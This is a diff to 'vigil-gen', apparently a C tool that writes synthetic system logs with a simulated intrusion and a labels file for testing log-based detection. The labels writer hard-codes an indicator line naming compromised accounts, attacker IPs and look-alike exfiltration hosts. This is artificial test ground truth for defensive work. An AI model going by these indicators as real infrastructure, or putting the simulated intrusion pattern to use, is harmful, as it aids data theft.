+    int64_t first[NSTEPS], last[NSTEPS];
+    for (size_t k = 0; k < NSTEPS; k++)
+        first[k] = last[k] = -1;
+    for (size_t i = 0; i < nevs; i++) {
+        size_t n = count_lines(evs[i].text);
+        all[evs[i].sink] += n;
+        if (evs[i].attack)
+            atk[evs[i].sink] += n;
+        int st = evs[i].step;
+        if (st >= 0 && (size_t)st < NSTEPS) {
+            if (first[st] < 0 || evs[i].t_us < first[st])
+                first[st] = evs[i].t_us;
+            if (evs[i].t_us > last[st])
+                last[st] = evs[i].t_us;
+        }
+    }
+    fprintf(f, "# vigil-gen scenario labels\nseed\t%" PRIu64 "\ndays\t%d\nlife\t%s\n", seed, days,
+            rich ? "rich" : "classic");
+    for (int s = 0; s < nsinks; s++)
+        fprintf(f, "lines\t%s\t%zu\t%zu\n", sink_rel[s], all[s], atk[s]);
+    for (size_t k = 0; k < NSTEPS; k++)
+        if (first[k] >= 0)
+            fprintf(f, "step\t%zu\t%s\t%" PRId64 "\t%" PRId64 "\t%s\t%s\n", k, steps[k].name, first[k],
+                    last[k], steps[k].rules, steps[k].entity);
+    for (unsigned i = 0; i < nbots; i++)
+        fprintf(f, "bot\t%s\n", bot_src[i]);
+    fputs("intruder\tuser=ops-admin|user=svc-backup|identity=ops-admin|src_ip=198.51.100.7|"
+          "src_ip=203.0.113.45|dst_host=update-check.cdn-g00gle.com|dst_host=files.transfer-drop.io\n", f);
+    return fclose(f) == 0 ? 0 : -1;
+}
+
+static void rich_life(int days);
+static uint64_t seed_arg;
+static bool rich;
+
 static int scenario(const char *dir, int days, bool with_intrusion, double live_s, int from_day,
                     int to_day)
 {
-    static const char *const rel[SINK__COUNT] = {
-        "auth.log", "app/api.log", "home/alice/.bash_history", "home/bob/.bash_history",
-        "home/ops-admin/.bash_history",
-    };
-    int fds[SINK__COUNT];
-    for (int i = 0; i < SINK__COUNT; i++) {
+    last_day = days - 1;
+    if (rich)
+        rich_life(days);
+    else
+        for (int d = 0; d < days; d++)
+            normal_day(d);
+    if (with_intrusion)
+        intrusion(days - 1);
+    int fds[SINK_MAX];
+    for (int i = 0; i < nsinks; i++) {
         char p[4096];
-        snprintf(p, sizeof(p), "%s/%s", dir, rel[i]);
+        snprintf(p, sizeof(p), "%s/%s", dir, sink_rel[i]);
         char d[4096];
         snprintf(d, sizeof(d), "%s", p);
         *strrchr(d, '/') = 0;
@@ -469,11 +987,6 @@ static int scenario(const char *dir, int days, bool with_intrusion, double live_
             return 1;
         }
     }
-    last_day = days - 1;
-    for (int d = 0; d < days; d++)
-        normal_day(d);
-    if (with_intrusion)
-        intrusion(days - 1);
     qsort(evs, nevs, sizeof(*evs), ev_cmp);
     /* Keep days [from_day, to_day) only. */
     int64_t lo = (START_EPOCH + (int64_t)from_day * DAY) * 1000000;
@@ -486,7 +999,10 @@ static int scenario(const char *dir, int days, bool with_intrusion, double live_
             free(evs[i].text);
     }
     nevs = kept;
-
+    if (write_labels(dir, seed_arg, days, rich) < 0) {
+        fprintf(stderr, "vigil-gen: %s/labels.tsv: %s\n", dir, strerror(errno));
+        return 1;
+    }
     /* Live pacing: normal lines share 40% of the time, attack lines 60%. */
     size_t natk = 0;
     for (size_t i = 0; i < nevs; i++)
@@ -510,7 +1026,7 @@ static int scenario(const char *dir, int days, bool with_intrusion, double live_
             }
         }
     }
-    for (int i = 0; i < SINK__COUNT; i++)
+    for (int i = 0; i < nsinks; i++)
         close(fds[i]);
     fprintf(stderr, "vigil-gen: wrote %zu events (%zu of the intrusion) over %d days into %s\n",
             nevs, natk, days, dir);
@@ -615,7 +1131,7 @@ static int flood(const char *path, long lines, bool users)
 static void usage(void)
 {
     fputs("usage: vigil-gen scenario DIR [--days N] [--seed N] [--no-intrusion] [--live SECONDS]\n"
-          "                          [--scale K] [--from-day N] [--to-day N]\n"
+          "                          [--scale K] [--from-day N] [--to-day N] [--rich]\n"
           "       vigil-gen bench DIR [--lines N] [--seed N]\n"
           "       vigil-gen flood FILE [--lines N] [--kind ips|users]\n",
           stderr);
@@ -639,6 +1155,10 @@ int main(int argc, char **argv)
             intr = false;
             continue;
         }
+        if (strcmp(a, "--rich") == 0) {
+            rich = true;
+            continue;
+        }
         if (!v) {
             usage();
             return 2;
@@ -646,8 +1166,10 @@ int main(int argc, char **argv)
         i++;
         if (strcmp(a, "--days") == 0)
             days = atoi(v);
-        else if (strcmp(a, "--seed") == 0)
-            rng_state = strtoull(v, NULL, 10) * 0x9e3779b97f4a7c15ull + 1;
+        else if (strcmp(a, "--seed") == 0) {
+            seed_arg = strtoull(v, NULL, 10);
+            rng_state = seed_arg * 0x9e3779b97f4a7c15ull + 1;
+        }
         else if (strcmp(a, "--scale") == 0)
             scale = atoi(v);
         else if (strcmp(a, "--from-day") == 0)
